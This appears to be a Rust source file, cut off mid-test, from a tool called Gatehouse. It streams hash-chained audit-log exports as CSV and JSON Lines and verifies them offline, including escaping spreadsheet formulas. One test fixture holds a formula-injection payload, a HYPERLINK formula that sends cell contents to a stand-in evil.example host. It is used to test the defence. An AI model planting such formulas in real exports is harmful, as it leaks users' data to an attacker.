//! `/audit/export.csv` and `/audit/export.jsonl`: the filtered audit log,
//! oldest first, streamed from a server-side cursor a thousand rows at a
//! time through a small channel, so memory stays flat for any size; the two
//! formats; and their offline check (`gatehouse audit verify --export`).
//! `scripts/verify-audit-export.py` checks the same without Gatehouse: keep
//! it in step with this file.
//!
//! **Layout.** CSV: the column header ([`csv_header`]), the start line, one
//! record per row, the end line. JSON Lines: the start line, one object per
//! row, the end line. The start line names the row just before the export's
//! first row (its number and hash: row 0 and 64 zeros for an export from
//! the chain's beginning) and says whether the export is filtered (rows may
//! be left out between its rows). The end line counts the rows and names
//! the last one (number and hash). An export without rows names none. In
//! CSV they are records whose first cell starts with `#`:
//!
//! ```text
//! #export=start,after_seq=30,after_hash=<hex>,filtered=false
//! #export=end,rows=120,last_seq=150,last_hash=<hex>
//! ```
//!
//! (an empty value for none), and in JSON Lines objects:
//!
//! ```text
//! {"export":"start","after_seq":30,"after_hash":"<hex>","filtered":false}
//! {"export":"end","rows":120,"last_seq":150,"last_hash":"<hex>"}
//! ```
//!
//! (`null` for none). So an export whose first or last rows were removed, or
//! whose download was cut off, no longer verifies; comparing the start's and
//! the end's hashes with ones kept elsewhere (the Audit page, a ticket)
//! tells that nobody rewrote the lines too.
//!
//! **CSV cells.** NULL is `\N`; a value starting with `\` gets one more
//! `\`; a value that a spreadsheet would run as a formula (starting with
//! `=`, `+`, `-`, `@`, tab, CR or LF), or that starts with `'`, gets a
//! leading `'` ([`app::encode::csv_text`]). Read back: `\N` is NULL, and
//! otherwise one leading `\` or `'` comes off. Hashes are of the values,
//! never of the cells.

use crate::audit::{Broken, ChainRow, Verified, Walk, FIELDS, GENESIS, SELECT_ROW};
use crate::http::query::Query;
use anyhow::Context;
use app::encode::{csv_text, csv_text_read};
use app::error::AppError;
use app::ssr::audit::{parse_query, readable, Access};
use app::ssr::AppState;
use axum::body::{Body, Bytes};
use axum::extract::{Path, State};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::Router;
use serde::{Deserialize, Serialize};
use sqlx::{PgPool, Postgres, QueryBuilder, Transaction};
use std::io::{BufRead, Write};

/// Rows per FETCH from the cursor.
const FETCH_ROWS: usize = 1000;
/// Chunks waiting between the database and the client.
const CHUNKS_IN_FLIGHT: usize = 4;

#[derive(Clone)]
pub struct ExportState {
    pub app: AppState,
    pub pool: PgPool,
}

pub fn router(state: ExportState) -> Router {
    Router::new()
        .route("/audit/{file}", get(export))
        .with_state(state)
}

#[derive(Debug, Default, Deserialize)]
pub struct ExportQuery {
    person: Option<String>,
    team: Option<String>,
    environment: Option<String>,
    service: Option<String>,
    kind: Option<String>,
    from: Option<String>,
    to: Option<String>,
}

/// An error as a plain-text answer with its status (the exports are
/// downloads, not server functions).
pub(crate) fn refusal(err: &AppError) -> Response {
    let status =
        StatusCode::from_u16(err.status().as_u16()).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
    (
        status,
        [(header::CONTENT_TYPE, "text/plain; charset=utf-8")],
        err.to_string(),
    )
        .into_response()
}

async fn export(
    State(state): State<ExportState>,
    Path(file): Path<String>,
    Query(q): Query<ExportQuery>,
    session: tower_sessions::Session,
) -> Response {
    let format = match file.as_str() {
        "export.csv" => Format::Csv,
        "export.jsonl" => Format::JsonLines,
        _ => return (StatusCode::NOT_FOUND, "Not found").into_response(),
    };
    let user = match app::ssr::session::user_of(&state.app, &session).await {
        Ok(Some(user)) => user,
        Ok(None) => return refusal(&AppError::Unauthenticated),
        Err(err) => return refusal(&err),
    };
    let mut query = match parse_query(
        q.person,
        q.team,
        q.environment,
        q.service,
        q.kind,
        q.from,
        q.to,
        None,
    ) {
        Ok(query) => query,
        Err(err) => return refusal(&err),
    };
    match readable(&user) {
        Ok(Access::Teams(teams)) => query.only_teams = Some(teams),
        Ok(_) => {}
        Err(err) => return refusal(&err),
    }
    // A date range keeps the rows in one run (times rise with row
    // numbers); any other filter may leave rows out between rows.
    let filtered = query.person.is_some()
        || query.team.is_some()
        || query.environment.is_some()
        || query.service.is_some()
        || query.kind.is_some()
        || query.only_teams.is_some();
    // The cursor is opened and its first rows read before answering, so a
    // failure there is an answer in words, not a download cut short.
    let (tx, first) = match open(&state.pool, &query).await {
        Ok(opened) => opened,
        Err(err) => return refusal(&AppError::internal(&err)),
    };
    let (sender, receiver) =
        tokio::sync::mpsc::channel::<Result<Bytes, std::io::Error>>(CHUNKS_IN_FLIGHT);
    tokio::spawn(async move {
        let writer = ExportWriter::new(format, filtered);
        if let Err(err) = stream(tx, first, writer, &sender).await {
            tracing::warn!(error = %err, "the audit export stopped");
            // The client sees a cut-off download, and the file lacks its
            // end line: it does not verify.
            let _ = sender
                .send(Err(std::io::Error::other(err.to_string())))
                .await;
        }
    });
    // Fused: the compression layer polls once more after the end.
    let body = futures::StreamExt::fuse(futures::stream::unfold(
        receiver,
        |mut receiver| async move { receiver.recv().await.map(|chunk| (chunk, receiver)) },
    ));
    let filename = format!(
        "gatehouse-audit-{}.{}",
        chrono::Utc::now().format("%Y%m%d-%H%M%S"),
        format.extension()
    );
    (
        [
            (header::CONTENT_TYPE, format.content_type().to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
            (header::CACHE_CONTROL, "no-store".to_owned()),
        ],
        Body::from_stream(body),
    )
        .into_response()
}

/// A read-only snapshot with a cursor over the filtered rows, oldest
/// first, and the cursor's first rows.
async fn open(
    pool: &PgPool,
    query: &app::domain::audit::AuditQuery,
) -> Result<(Transaction<'static, Postgres>, Vec<ChainRow>), sqlx::Error> {
    let mut tx = pool.begin().await?;
    sqlx::query("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY")
        .execute(&mut *tx)
        .await?;
    let mut sql = QueryBuilder::<Postgres>::new(format!(
        "DECLARE audit_export NO SCROLL CURSOR FOR SELECT {SELECT_ROW} FROM audit_log"
    ));
    crate::adapters::db::audit::push_filters(&mut sql, query);
    sql.push(" ORDER BY seq");
    sql.build().execute(&mut *tx).await?;
    let first = fetch(&mut tx).await?;
    Ok((tx, first))
}

async fn fetch(tx: &mut Transaction<'static, Postgres>) -> Result<Vec<ChainRow>, sqlx::Error> {
    sqlx::query_as(&format!("FETCH {FETCH_ROWS} FROM audit_export"))
        .fetch_all(&mut **tx)
        .await
}

/// Sends the rows on in chunks, then the end line, until the cursor ends or
/// the client goes away.
async fn stream(
    mut tx: Transaction<'static, Postgres>,
    first: Vec<ChainRow>,
    mut writer: ExportWriter,
    sender: &tokio::sync::mpsc::Sender<Result<Bytes, std::io::Error>>,
) -> anyhow::Result<()> {
    let mut rows = first;
    loop {
        let last = rows.len() < FETCH_ROWS;
        let mut chunk = writer.rows(&rows);
        if last {
            chunk.extend(writer.finish());
        }
        if !chunk.is_empty() && sender.send(Ok(Bytes::from(chunk))).await.is_err() {
            // The client went away.
            return Ok(());
        }
        if last {
            break;
        }
        rows = fetch(&mut tx).await?;
    }
    tx.commit().await?;
    Ok(())
}

/// The export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    JsonLines,
}

impl Format {
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::JsonLines => "application/x-ndjson; charset=utf-8",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::JsonLines => "jsonl",
        }
    }
}

/// The CSV header: the fields, then `prev_hash` and `hash`.
pub fn csv_header() -> Vec<&'static str> {
    FIELDS
        .iter()
        .copied()
        .chain(["prev_hash", "hash"])
        .collect()
}

/// A CSV cell (see the module's documentation): `\N` for NULL, one more `\`
/// before a leading `\`, a `'` before a formula's first character or a
/// leading `'`.
fn csv_cell(value: Option<&str>) -> String {
    match value {
        None => "\\N".into(),
        Some(v) if v.starts_with('\\') => format!("\\{v}"),
        Some(v) => csv_text(v).into_owned(),
    }
}

/// The value a [`csv_cell`] was written from.
fn from_csv_cell(cell: &str) -> Option<String> {
    if cell == "\\N" {
        None
    } else if let Some(rest) = cell.strip_prefix('\\') {
        Some(rest.to_owned())
    } else {
        Some(csv_text_read(cell).to_owned())
    }
}

impl ChainRow {
    /// The row's cells in [`csv_header`] order; roles as a JSON array.
    pub fn csv_record(&self) -> Vec<String> {
        let roles = serde_json::to_string(&self.actor_roles).unwrap_or_default();
        let seq = self.seq.to_string();
        self.values(&seq, &roles)
            .into_iter()
            .map(csv_cell)
            .collect()
    }

    /// Reads a row back from its CSV cells.
    pub fn from_csv_record(record: &csv::StringRecord) -> anyhow::Result<Self> {
        anyhow::ensure!(
            record.len() == FIELDS.len() + 2,
            "a row has {} cells, not {}",
            record.len(),
            FIELDS.len() + 2
        );
        let cell = |i: usize| from_csv_cell(record.get(i).unwrap_or("\\N"));
        let need = |i: usize| cell(i).with_context(|| format!("{} is empty", csv_header()[i]));
        Ok(Self {
            seq: need(0)?.parse().context("seq is not a number")?,
            at: need(1)?,
            event: need(2)?,
            actor_id: cell(3),
            actor_name: cell(4),
            actor_roles: serde_json::from_str(&need(5)?).context("actor_roles")?,
            request_id: cell(6),
            pipeline: cell(7),
            stage: cell(8),
            action: cell(9),
            execution_id: cell(10),
            revision: cell(11),
            decision: cell(12),
            comment: cell(13),
            sign_off: cell(14),
            aws_result: cell(15),
            team: cell(16),
            environment: cell(17),
            service: cell(18),
            subject: cell(19),
            summary: need(20)?,
            details: need(21)?,
            prev_hash: need(22)?,
            hash: need(23)?,
        })
    }
}

/// The export's start and end lines (see the module's documentation).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "export", rename_all = "snake_case", deny_unknown_fields)]
pub enum Marker {
    /// First: the row before the export's first row, and whether rows may
    /// be left out between its rows.
    Start {
        after_seq: Option<i64>,
        after_hash: Option<String>,
        filtered: bool,
    },
    /// Last: how many rows there are, and the last one.
    End {
        rows: u64,
        last_seq: Option<i64>,
        last_hash: Option<String>,
    },
}

impl Marker {
    /// The line as CSV cells: `#export=start`, then `name=value` each.
    fn csv_cells(&self) -> Vec<String> {
        let text = |v: &Option<String>| v.clone().unwrap_or_default();
        let number = |v: &Option<i64>| v.map(|n| n.to_string()).unwrap_or_default();
        match self {
            Marker::Start {
                after_seq,
                after_hash,
                filtered,
            } => vec![
                "#export=start".into(),
                format!("after_seq={}", number(after_seq)),
                format!("after_hash={}", text(after_hash)),
                format!("filtered={filtered}"),
            ],
            Marker::End {
                rows,
                last_seq,
                last_hash,
            } => vec![
                "#export=end".into(),
                format!("rows={rows}"),
                format!("last_seq={}", number(last_seq)),
                format!("last_hash={}", text(last_hash)),
            ],
        }
    }

    /// Reads a start or end line from its CSV cells.
    fn from_csv(record: &csv::StringRecord) -> anyhow::Result<Self> {
        let mut fields = std::collections::BTreeMap::new();
        // Only the first cell starts with its one `#`.
        for (i, cell) in record.iter().enumerate() {
            let named = if i == 0 {
                cell.strip_prefix('#').unwrap_or(cell)
            } else {
                cell
            };
            let (name, value) = named
                .split_once('=')
                .with_context(|| format!("\u{201c}{cell}\u{201d} is not name=value"))?;
            anyhow::ensure!(
                fields.insert(name, value).is_none(),
                "{name} is given twice"
            );
        }
        let text = |name: &str| -> anyhow::Result<Option<String>> {
            let value = fields
                .get(name)
                .with_context(|| format!("{name} is missing"))?;
            Ok((!value.is_empty()).then(|| (*value).to_owned()))
        };
        let number = |name: &str| -> anyhow::Result<Option<i64>> {
            text(name)?
                .map(|v| v.parse().with_context(|| format!("{name} is not a number")))
                .transpose()
        };
        let marker = match fields.get("export").copied() {
            Some("start") => Marker::Start {
                after_seq: number("after_seq")?,
                after_hash: text("after_hash")?,
                filtered: match text("filtered")?.as_deref() {
                    Some("true") => true,
                    Some("false") => false,
                    _ => anyhow::bail!("filtered is neither true nor false"),
                },
            },
            Some("end") => Marker::End {
                rows: text("rows")?
                    .context("rows is empty")?
                    .parse()
                    .context("rows is not a number")?,
                last_seq: number("last_seq")?,
                last_hash: text("last_hash")?,
            },
            _ => anyhow::bail!("it is neither the export's start nor its end"),
        };
        anyhow::ensure!(fields.len() == 4, "it has {} fields, not 4", fields.len());
        Ok(marker)
    }
}

/// Writes an export chunk by chunk: the CSV header and the start line
/// before the first rows, the end line after the last.
#[derive(Debug, Clone)]
pub struct ExportWriter {
    format: Format,
    filtered: bool,
    started: bool,
    rows: u64,
    last: Option<(i64, String)>,
}

impl ExportWriter {
    /// `filtered`: rows may be left out between the export's rows (a filter
    /// other than the date range).
    pub fn new(format: Format, filtered: bool) -> Self {
        Self {
            format,
            filtered,
            started: false,
            rows: 0,
            last: None,
        }
    }

    fn csv<'a>(&self, out: &'a mut Vec<u8>) -> csv::Writer<&'a mut Vec<u8>> {
        csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .flexible(true)
            .from_writer(out)
    }

    fn marker(&self, out: &mut Vec<u8>, marker: &Marker) {
        match self.format {
            Format::Csv => {
                let mut w = self.csv(out);
                let _ = w.write_record(marker.csv_cells());
                let _ = w.flush();
            }
            Format::JsonLines => {
                if serde_json::to_writer(&mut *out, marker).is_ok() {
                    out.push(b'\n');
                }
            }
        }
    }

    fn start(&mut self, out: &mut Vec<u8>, first: Option<&ChainRow>) {
        self.started = true;
        if self.format == Format::Csv {
            let mut w = self.csv(out);
            let _ = w.write_record(csv_header());
            let _ = w.flush();
        }
        let start = Marker::Start {
            after_seq: first.map(|r| r.seq - 1),
            after_hash: first.map(|r| r.prev_hash.clone()),
            filtered: self.filtered,
        };
        self.marker(out, &start);
    }

    /// The next rows, oldest first (after the header and the start line
    /// the first time).
    pub fn rows(&mut self, rows: &[ChainRow]) -> Vec<u8> {
        let mut out = Vec::with_capacity(rows.len() * 512);
        let Some(last) = rows.last() else {
            return out;
        };
        if !self.started {
            self.start(&mut out, rows.first());
        }
        match self.format {
            Format::Csv => {
                let mut w = self.csv(&mut out);
                for row in rows {
                    let _ = w.write_record(row.csv_record());
                }
                let _ = w.flush();
            }
            Format::JsonLines => {
                for row in rows {
                    if serde_json::to_writer(&mut out, row).is_ok() {
                        out.push(b'\n');
                    }
                }
            }
        }
        self.rows += rows.len() as u64;
        self.last = Some((last.seq, last.hash.clone()));
        out
    }

    /// The end line (after the header and the start line of an export
    /// without rows).
    pub fn finish(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        if !self.started {
            self.start(&mut out, None);
        }
        let end = Marker::End {
            rows: self.rows,
            last_seq: self.last.as_ref().map(|(seq, _)| *seq),
            last_hash: self.last.as_ref().map(|(_, hash)| hash.clone()),
        };
        self.marker(&mut out, &end);
        out
    }
}

/// A whole export of `rows` in `format`.
pub fn write_export(format: Format, rows: &[ChainRow], filtered: bool) -> Vec<u8> {
    let mut writer = ExportWriter::new(format, filtered);
    let mut out = writer.rows(rows);
    out.extend(writer.finish());
    out
}

/// What the offline check of an export found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExportVerified {
    pub verified: Verified,
    /// Places where a filtered export leaves rows out (their links could
    /// not be checked).
    pub gaps: u64,
    /// The row before the first row (number and hash), as the start line
    /// names it; `None` for an export without rows.
    pub starts_after: Option<(i64, String)>,
}

/// Why a filtered export is not checked as a full one.
const FILTERED_WITHOUT_FLAG: &str =
    "this export is filtered (its start line says so), so rows may \
     be left out between its rows: check it with --filtered";

/// The offline check, line by line. After the first jump over row numbers
/// it only looks for the rows jumped over, to tell rows that come later
/// (out of order) from rows that are not there (missing).
struct Check {
    /// The reader accepts rows left out between rows (`--filtered`).
    accept_filtered: bool,
    started: bool,
    gaps_allowed: bool,
    starts_after: Option<(i64, String)>,
    walk: Option<Walk>,
    rows: u64,
    gaps: u64,
    end: Option<(u64, Option<(i64, String)>)>,
    /// The row expected and the row found instead.
    jump: Option<(i64, i64)>,
    jumped_rows_come_later: bool,
    broken: Option<Broken>,
}

impl Check {
    fn new(accept_filtered: bool) -> Self {
        Self {
            accept_filtered,
            started: false,
            gaps_allowed: false,
            starts_after: None,
            walk: None,
            rows: 0,
            gaps: 0,
            end: None,
            jump: None,
            jumped_rows_come_later: false,
            broken: None,
        }
    }

    /// Nothing later in the file can change the answer.
    fn decided(&self) -> bool {
        self.broken.is_some() || (self.jump.is_some() && self.jumped_rows_come_later)
    }

    fn last(&self) -> Option<(i64, String)> {
        let walk = self.walk.as_ref().filter(|_| self.rows > 0)?;
        let (seq, hash) = walk.last();
        Some((seq, hash.to_owned()))
    }

    fn break_at(&mut self, seq: i64, problem: String) {
        self.broken = Some(Broken { seq, problem });
    }

    fn marker(&mut self, marker: Marker) -> anyhow::Result<()> {
        if self.decided() || self.jump.is_some() {
            return Ok(());
        }
        let here = self.last().map_or(0, |(seq, _)| seq);
        match marker {
            Marker::Start { .. } if self.started => self.break_at(
                here,
                "a second start line follows it: exports were joined or lines moved".into(),
            ),
            Marker::Start {
                after_seq,
                after_hash,
                filtered,
            } => {
                anyhow::ensure!(!filtered || self.accept_filtered, FILTERED_WITHOUT_FLAG);
                self.started = true;
                self.gaps_allowed = filtered;
                match (after_seq, after_hash) {
                    (Some(seq), Some(hash)) => {
                        self.walk = Some(Walk::after(seq, &hash));
                        self.starts_after = Some((seq, hash));
                    }
                    (None, None) => {}
                    _ => anyhow::bail!(
                        "the export's start line names a row without its hash, or a hash without its row"
                    ),
                }
            }
            Marker::End { .. } if !self.started => anyhow::bail!(NO_START),
            Marker::End { .. } if self.end.is_some() => {
                self.break_at(here, "a second end line follows it".into());
            }
            Marker::End {
                rows,
                last_seq,
                last_hash,
            } => {
                let last = match (last_seq, last_hash) {
                    (Some(seq), Some(hash)) => Some((seq, hash)),
                    (None, None) => None,
                    _ => anyhow::bail!(
                        "the export's end line names a row without its hash, or a hash without its row"
                    ),
                };
                self.end = Some((rows, last));
            }
        }
        Ok(())
    }

    fn row(&mut self, row: &ChainRow) {
        if self.decided() {
            return;
        }
        if let Some((expected, found)) = self.jump {
            if (expected..found).contains(&row.seq) {
                self.jumped_rows_come_later = true;
            }
            return;
        }
        if !self.started {
            return self.break_at(row.seq, NO_START.into());
        }
        if self.end.is_some() {
            return self.break_at(
                row.seq,
                "it comes after the export's end line (rows were added to the file)".into(),
            );
        }
        let rows = self.rows;
        let gaps_allowed = self.gaps_allowed;
        let Some(walk) = self.walk.as_mut() else {
            return self.break_at(
                row.seq,
                "the export's start line says it has no rows, but rows follow".into(),
            );
        };
        if row.seq > walk.expects() {
            // A filtered export leaves rows out between rows, never before
            // its first row.
            if gaps_allowed && rows > 0 {
                *walk = Walk::after(row.seq - 1, &row.prev_hash);
                self.gaps += 1;
            } else {
                self.jump = Some((walk.expects(), row.seq));
                return;
            }
        }
        match walk.check(row) {
            Ok(()) => self.rows += 1,
            Err(broken) => self.broken = Some(broken),
        }
    }

    fn finish(mut self) -> anyhow::Result<ExportVerified> {
        if self.broken.is_none() {
            if let Some((expected, found)) = self.jump {
                let (named, are) = if found == expected + 1 {
                    (format!("row {expected}"), "is")
                } else {
                    (format!("rows {expected} to {}", found - 1), "are")
                };
                let problem = if self.jumped_rows_come_later {
                    format!("out of order: row {found} comes before {named} in the export")
                } else if self.rows == 0 {
                    format!(
                        "{named} {are} missing: the export's start line says it starts after row {}, but its first row is {found}",
                        expected - 1
                    )
                } else {
                    format!("{named} {are} missing (deleted)")
                };
                self.break_at(expected, problem);
            } else if !self.started {
                anyhow::bail!(NO_START);
            } else {
                let last = self.last();
                let here = last
                    .as_ref()
                    .or(self.starts_after.as_ref())
                    .map_or(0, |(seq, _)| *seq);
                match self.end.clone() {
                    None => self.break_at(
                        here,
                        "the export ends here without its end line: the download was cut off, or its last lines were removed".into(),
                    ),
                    Some((rows, _)) if rows != self.rows => self.break_at(
                        here,
                        format!(
                            "the export's end line counts {rows} rows, but the export has {}",
                            self.rows
                        ),
                    ),
                    Some((_, end)) if end != last => self.break_at(
                        here,
                        format!(
                            "the export's end line says it ends at {}, but its last row is {}",
                            named_row(end.as_ref()),
                            named_row(last.as_ref())
                        ),
                    ),
                    Some(_) => {}
                }
            }
        }
        let (last_seq, last_hash) = match (self.last(), &self.starts_after) {
            (Some(last), _) => last,
            (None, Some(start)) => start.clone(),
            (None, None) => (0, String::new()),
        };
        Ok(ExportVerified {
            verified: Verified {
                rows: self.rows,
                last_seq,
                last_hash,
                broken: self.broken,
            },
            gaps: self.gaps,
            starts_after: self.starts_after,
        })
    }
}

const NO_START: &str = "the export's start line is missing: it was removed, or the file was \
                        not written by this version of Gatehouse (export it again)";

fn named_row(row: Option<&(i64, String)>) -> String {
    match row {
        Some((seq, hash)) => format!("row {seq} (hash {hash})"),
        None => "no row".into(),
    }
}

/// Verifies an export file (CSV or JSON Lines, by its first line) offline:
/// its start line, then rows forming an unbroken chain from the row the
/// start line names, then its end line naming the last row. With
/// `filtered`, an export whose start line says it is filtered may leave
/// rows out between rows: every row's own hash is still checked, and the
/// links between consecutive rows. A file that is not an export is an
/// error; a chain that does not hold is [`Verified::broken`].
pub fn verify_export(reader: impl BufRead, filtered: bool) -> anyhow::Result<ExportVerified> {
    let mut reader = reader;
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let mut check = Check::new(filtered);
    if first.starts_with('{') {
        let mut line_no = 1;
        let mut line = first;
        loop {
            if !line.trim().is_empty() {
                match serde_json::from_str::<ChainRow>(&line) {
                    Ok(row) => check.row(&row),
                    Err(_) => {
                        let marker: Marker = serde_json::from_str(&line).with_context(|| {
                            format!("line {line_no} is neither an audit row nor the export's start or end line")
                        })?;
                        check.marker(marker)?;
                    }
                }
                if check.decided() {
                    break;
                }
            }
            line.clear();
            line_no += 1;
            if reader.read_line(&mut line)? == 0 {
                break;
            }
        }
    } else {
        let header: Vec<&str> = first.trim_end().split(',').collect();
        anyhow::ensure!(
            header == csv_header(),
            "the first line is neither the export's JSON start line nor its CSV header"
        );
        let mut csv = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(reader);
        for record in csv.records() {
            let record = record?;
            // The header was read already.
            let line_no = record.position().map_or(0, |p| p.line() + 1);
            if record.get(0).is_some_and(|c| c.starts_with('#')) {
                let marker = Marker::from_csv(&record).with_context(|| {
                    format!("line {line_no} is not the export's start or end line")
                })?;
                check.marker(marker)?;
            } else {
                let row = ChainRow::from_csv_record(&record)
                    .with_context(|| format!("line {line_no} is not an audit row"))?;
                check.row(&row);
            }
            if check.decided() {
                break;
            }
        }
    }
    check.finish()
}

/// Prints an export check's result; an error names the first bad row.
pub fn report_export(checked: &ExportVerified, out: &mut impl Write) -> anyhow::Result<()> {
    let v = &checked.verified;
    if let Some(b) = &v.broken {
        anyhow::bail!("audit chain broken at row {}: {}", b.seq, b.problem);
    }
    let from = match &checked.starts_after {
        None => {
            writeln!(out, "audit export verified: no rows")?;
            return Ok(());
        }
        Some((0, hash)) if hash == GENESIS => "from the chain's first row".to_owned(),
        Some((seq, hash)) => format!("after row {seq} (hash {hash})"),
    };
    let gaps = if checked.gaps > 0 {
        format!(
            "; a filtered export: {} places where rows were left out were not checked",
            checked.gaps
        )
    } else {
        String::new()
    };
    writeln!(
        out,
        "audit export verified: {} rows {from} up to row {} (hash {}){gaps}",
        v.rows, v.last_seq, v.last_hash
    )?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(seq: i64, prev: &str, name: &str, comment: Option<&str>) -> ChainRow {
        crate::audit::tests::test_row(seq, prev, name, comment)
    }

    /// Rows 1..=n, chained, by `name` with these comments in turn.
    fn chain(n: i64, name: &str, comments: &[Option<&str>]) -> Vec<ChainRow> {
        let mut rows: Vec<ChainRow> = Vec::new();
        for seq in 1..=n {
            let prev = rows.last().map_or(GENESIS.to_owned(), |r| r.hash.clone());
            let comment = comments[usize::try_from(seq - 1).unwrap_or(0) % comments.len()];
            rows.push(row(seq, &prev, name, comment));
        }
        rows
    }

    /// Rows whose CSV records are one line each, so lines can be moved.
    fn one_line_rows(n: i64) -> Vec<ChainRow> {
        chain(n, "=Eve", &[Some("=1+1"), Some("'quoted"), Some("-"), None])
    }

    fn check(bytes: &[u8], filtered: bool) -> Result<ExportVerified, String> {
        let checked = verify_export(bytes, filtered).map_err(|e| format!("{e:#}"))?;
        match &checked.verified.broken {
            Some(b) => Err(b.to_string()),
            None => Ok(checked),
        }
    }

    /// The export's lines, without their terminators.
    fn lines(bytes: &[u8]) -> Vec<String> {
        String::from_utf8(bytes.to_vec())
            .expect("utf8")
            .split_terminator('\n')
            .map(|l| l.trim_end_matches('\r').to_owned())
            .collect()
    }

    fn join(lines: &[String]) -> Vec<u8> {
        lines
            .iter()
            .map(|l| format!("{l}\r\n"))
            .collect::<String>()
            .into_bytes()
    }

    const NASTY: [Option<&str>; 9] = [
        Some(r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#),
        Some("+1"),
        Some("-2+3"),
        Some("@SUM(A1)"),
        Some("\t=1"),
        Some("\r\n=1"),
        Some("'already quoted"),
        Some("\\N is not null"),
        None,
    ];

    #[test]
    fn no_csv_cell_starts_a_formula_and_every_cell_reads_back() {
        let rows = chain(9, "Priya \"QA\" Raman;\nsecond line", &NASTY);
        let bytes = write_export(Format::Csv, &rows, false);
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(&bytes[..]);
        let mut seen = 0;
        for record in reader.records() {
            let record = record.expect("record");
            for cell in &record {
                assert!(!cell.starts_with(app::encode::FORMULA_STARTS), "{cell:?}");
            }
            if record.get(0).is_some_and(|c| c.starts_with('#')) {
                continue;
            }
            let back = ChainRow::from_csv_record(&record).expect("row");
            assert_eq!(back, rows[seen]);
            seen += 1;
        }
        assert_eq!(seen, 9);
        let text = String::from_utf8(bytes.clone()).expect("utf8");
        assert!(text.contains(r#","'=HYPERLINK(""http://evil.example/?""&A2,""Open"")","#));
        assert!(text.contains(",''already quoted,"), "{text}");
        assert!(text.contains(",\\\\N is not null,"), "{text}");
        assert_eq!(check(&bytes, false).expect("verifies").verified.rows, 9);
    }

    #[test]
    fn both_formats_carry_a_start_and_an_end_line_and_verify() {
        let rows = one_line_rows(5);
        for format in [Format::Csv, Format::JsonLines] {
            let bytes = write_export(format, &rows, false);
            let all = lines(&bytes);
            let (start, end) = if format == Format::Csv {
                (&all[1], &all[all.len() - 1])
            } else {
                (&all[0], &all[all.len() - 1])
            };
            assert!(
                start.contains("after_seq") && start.contains(GENESIS),
                "{start}"
            );
            assert!(end.contains(&rows[4].hash), "{end}");
            let checked = check(&bytes, false).expect("verifies");
            assert_eq!(checked.verified.rows, 5);
            assert_eq!(checked.starts_after, Some((0, GENESIS.to_owned())));
            let mut said = Vec::new();
            report_export(&checked, &mut said).expect("report");
            let said = String::from_utf8(said).expect("utf8");
            assert!(
                said.starts_with(
                    "audit export verified: 5 rows from the chain's first row up to row 5"
                ),
                "{said}"
            );
            // A later part of the chain names the row before it.
            let tail = write_export(format, &rows[2..], false);
            let checked = check(&tail, false).expect("verifies");
            assert_eq!(checked.starts_after, Some((2, rows[1].hash.clone())));
            // No rows at all.
            let empty = write_export(format, &[], false);
            assert_eq!(check(&empty, false).expect("verifies").verified.rows, 0);
        }
    }

    /// What the standard-library Python verifier says of `bytes`: whether
    /// it verified.
    fn python_verifies(bytes: &[u8], name: &str) -> bool {
        let path = std::env::temp_dir().join(format!(
            "gatehouse-{}-{name}",
            uuid::Uuid::new_v4().simple()
        ));
        std::fs::write(&path, bytes).expect("write");
        let script = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../scripts/verify-audit-export.py"
        );
        let out = std::process::Command::new("python3")
            .arg(script)
            .arg(&path)
            .output()
            .expect("python3 runs");
        let _ = std::fs::remove_file(&path);
        out.status.success()
    }

    #[test]
    fn hand_edited_start_lines_and_rows_are_refused_by_both_verifiers_alike() {
        let rows = one_line_rows(3);
        let csv = lines(&write_export(Format::Csv, &rows, false));
        let jsonl = lines(&write_export(Format::JsonLines, &rows, false));
        assert!(check(&join(&csv), false).is_ok() && python_verifies(&join(&csv), "ok.csv"));
        assert!(check(&join(&jsonl), false).is_ok() && python_verifies(&join(&jsonl), "ok.jsonl"));
        let mut edited: Vec<(&str, Vec<String>)> = Vec::new();
        // A second `#`, a number with a space or an underscore.
        for (from, to) in [("#export=", "##export="), ("after_seq=0", "after_seq= 0")] {
            let mut lines = csv.clone();
            lines[1] = lines[1].replace(from, to);
            edited.push(("edited.csv", lines));
        }
        let mut lines = csv.clone();
        let last = lines.len() - 1;
        lines[last] = lines[last].replace("rows=3", "rows=3_0");
        edited.push(("edited.csv", lines));
        // A number as text, a row that also says it is a start line.
        let mut lines = jsonl.clone();
        lines[0] = lines[0].replace("\"after_seq\":0", "\"after_seq\":\"0\"");
        edited.push(("edited.jsonl", lines));
        let mut lines = jsonl.clone();
        lines[1] = lines[1].replacen('{', "{\"export\":\"start\",", 1);
        edited.push(("edited.jsonl", lines));
        for (name, lines) in edited {
            let bytes = join(&lines);
            assert!(
                check(&bytes, false).is_err(),
                "Gatehouse verifies {name}: {}",
                lines.join("\n")
            );
            assert!(
                !python_verifies(&bytes, name),
                "the Python verifier verifies {name}: {}",
                lines.join("\n")
            );
        }
    }

    #[test]
    fn a_removed_first_or_last_row_or_a_cut_off_file_does_not_verify() {
        let rows = one_line_rows(6);
        for format in [Format::Csv, Format::JsonLines] {
            let all = lines(&write_export(format, &rows, false));
            let first_row = usize::from(format == Format::Csv) + 1;
            let last_row = all.len() - 2;

            let mut cut = all.clone();
            cut.remove(first_row);
            let said = check(&join(&cut), false).expect_err("first row removed");
            assert!(said.contains("audit row 1: row 1 is missing: the export's start line says it starts after row 0, but its first row is 2"), "{said}");

            let mut cut = all.clone();
            cut.remove(last_row);
            let said = check(&join(&cut), false).expect_err("last row removed");
            assert!(
